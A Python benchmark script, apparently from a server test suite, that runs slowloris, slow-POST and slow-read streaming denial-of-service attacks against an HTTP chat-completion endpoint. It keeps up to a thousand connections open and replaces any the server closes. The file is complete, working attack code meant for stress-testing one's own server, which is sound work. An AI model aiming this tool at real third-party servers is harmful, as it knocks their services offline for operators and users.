#!/usr/bin/env python3
"""Hold N hostile slow connections open against HOST:PORT, reopening each one the server closes.

Modes (one per run):
  slowloris  a request head sent one byte every --interval seconds, never finished
             (`GET /v1/chat/completions HTTP/1.1`, `Host`, then an endless `X-Pad: aaaa...`)
  slowpost   a complete head announcing a large body (`Content-Length: --body-bytes`), then the
             body one byte every --interval seconds
  sse        a streaming request (`POST --sse-path` with `"stream":true`) whose answer is never
             read: the socket's receive buffer is shrunk to --rcvbuf bytes before connecting and
             nothing is ever taken from it

Each connection drips at its own phase (a random offset within the interval), so the attack is
a steady trickle of N bytes per interval rather than one burst. A connection the server closes
(or answers: a 408, 413, ...) is counted and replaced, at most --reopen-per-s a second, so the
attack keeps its N connections for as long as it runs. Standard library only; one thread,
poll(2).

Protocol with the caller (bench/scripts/slow-clients.sh), one line each on stdout:
  OPEN open=<n> failed=<n> seconds=<s>          once the first N connections are open
  DONE mode=<m> open=<n> opened=<n> closed_by_server=<n> answered=<n> statuses=<s:count,...>
       bytes_sent=<n> seconds=<s>                  on SIGTERM, SIGINT or EOF on stdin
"""
import argparse
import heapq
import itertools
import random
import select
import signal
import socket
import sys
import time

from idle_conns import raise_nofile  # the same open-file limit handling, beside this script

REOPEN_TICK_S = 0.1
POLL_CLOSED = select.POLLHUP | select.POLLERR | getattr(select, "POLLRDHUP", 0x2000)


class Conn:
    __slots__ = ("sock", "sent", "answer")

    def __init__(self, sock):
        self.sock = sock
        self.sent = 0  # bytes dripped so far
        self.answer = b""


def first_bytes(args):
    """What a connection sends at once; the rest is dripped (see `drip_byte`)."""
    host = f"Host: {args.host}:{args.port}\r\n"
    if args.mode == "slowloris":
        return ("GET /v1/chat/completions HTTP/1.1\r\n" + host).encode()
    if args.mode == "slowpost":
        return (
            "POST /v1/chat/completions HTTP/1.1\r\n" + host
            + "Content-Type: application/json\r\n"
            + f"Content-Length: {args.body_bytes}\r\n\r\n"
        ).encode()
    body = b'{"model":"demo","prompt":"Hello","stream":true}'
    return (
        f"POST {args.sse_path} HTTP/1.1\r\n" + host
        + "Content-Type: application/json\r\n"
        + f"Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body


SLOWLORIS_PAD = b"X-Pad: "


def drip_byte(args, sent):
    """The next byte of a dripping connection that has dripped `sent` bytes: a header line
    that never ends (slowloris), or a body that never completes (slowpost)."""
    if args.mode == "slowloris":
        return SLOWLORIS_PAD[sent : sent + 1] or b"a"
    return b"{" if sent == 0 else b" "


def open_conn(args, first, source):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if args.mode == "sse":
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
    if source:
        s.bind((source, 0))
    s.settimeout(2.0)
    s.connect((args.host, args.port))
    s.setblocking(False)
    s.send(first)
    return Conn(s)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=["slowloris", "slowpost", "sse"], required=True)
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between drip bytes")
    ap.add_argument("--body-bytes", type=int, default=1_000_000)
    ap.add_argument("--sse-path", default="/v1/completions")
    ap.add_argument("--rcvbuf", type=int, default=4096)
    ap.add_argument("--reopen-per-s", type=int, default=1000, help="replacements per second, at most")
    ap.add_argument("--sources", default="", help="comma-separated local addresses to bind")
    args = ap.parse_args()
    raise_nofile(args.conns + 64)
    sources = [a for a in args.sources.split(",") if a] or [None]

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))

    first = first_bytes(args)
    poller = select.poll()
    conns = {}
    due = []  # (time of the next drip byte, tie-breaker, fd, conn), a heap
    order = itertools.count()
    stats = {"opened": 0, "failed": 0, "closed": 0, "answered": 0, "bytes": 0}
    statuses = {}
    started = time.monotonic()

    def add(n):
        for _ in range(n):
            src = sources[stats["opened"] % len(sources)]
            try:
                c = open_conn(args, first, src)
            except OSError:
                stats["failed"] += 1
                continue
            stats["opened"] += 1
            stats["bytes"] += len(first)
            fd = c.sock.fileno()
            conns[fd] = c
            mask = POLL_CLOSED if args.mode == "sse" else (select.POLLIN | POLL_CLOSED)
            poller.register(fd, mask)
            if args.mode != "sse":
                first_drip = time.monotonic() + random.uniform(0, args.interval)
                heapq.heappush(due, (first_drip, next(order), fd, c))

    def drop(fd):
        c = conns.pop(fd)
        poller.unregister(fd)
        if c.answer.startswith(b"HTTP/1."):
            stats["answered"] += 1
            code = c.answer[9:12].decode("ascii", "replace")
            statuses[code] = statuses.get(code, 0) + 1
        stats["closed"] += 1
        c.sock.close()

    add(args.conns)
    print(
        f"OPEN open={len(conns)} failed={stats['failed']} "
        f"seconds={time.monotonic() - started:.2f}",
        flush=True,
    )
    poller.register(sys.stdin.fileno(), select.POLLIN | select.POLLHUP)
    reopen_at = time.monotonic() + REOPEN_TICK_S
    while not stop:
        now = time.monotonic()
        wake = min(reopen_at, due[0][0] if due else reopen_at)
        try:
            events = poller.poll(max(0, int((wake - now) * 1000)))
        except InterruptedError:
            continue
        for fd, ev in events:
            if fd == sys.stdin.fileno():
                if not sys.stdin.readline():
                    stop.append(1)
                continue
            c = conns.get(fd)
            if c is None:
                continue
            if args.mode != "sse" and ev & select.POLLIN:
                try:
                    data = c.sock.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if data and len(c.answer) < 64:
                    c.answer += data
                    continue  # the close follows (or the next drip fails)
            drop(fd)
        now = time.monotonic()
        # Drip: each connection its own byte once per interval, at its own phase, so the
        # attack is a steady trickle rather than one burst per interval.
        while due and due[0][0] <= now:
            _, _, fd, c = heapq.heappop(due)
            if conns.get(fd) is not c:
                continue  # closed (and perhaps its descriptor reused) meanwhile
            try:
                b = drip_byte(args, c.sent)
                c.sock.send(b)
                c.sent += len(b)
                stats["bytes"] += len(b)
            except OSError:
                drop(fd)
                continue
            heapq.heappush(due, (now + args.interval, next(order), fd, c))
        if now >= reopen_at:
            reopen_at = now + REOPEN_TICK_S
            add(min(args.conns - len(conns), max(1, int(args.reopen_per_s * REOPEN_TICK_S))))
    st = ",".join(f"{k}:{v}" for k, v in sorted(statuses.items())) or "-"
    print(
        f"DONE mode={args.mode} open={len(conns)} opened={stats['opened']} "
        f"closed_by_server={stats['closed']} answered={stats['answered']} statuses={st} "
        f"bytes_sent={stats['bytes']} seconds={time.monotonic() - started:.1f}",
        flush=True,
    )


if __name__ == "__main__":
    main()
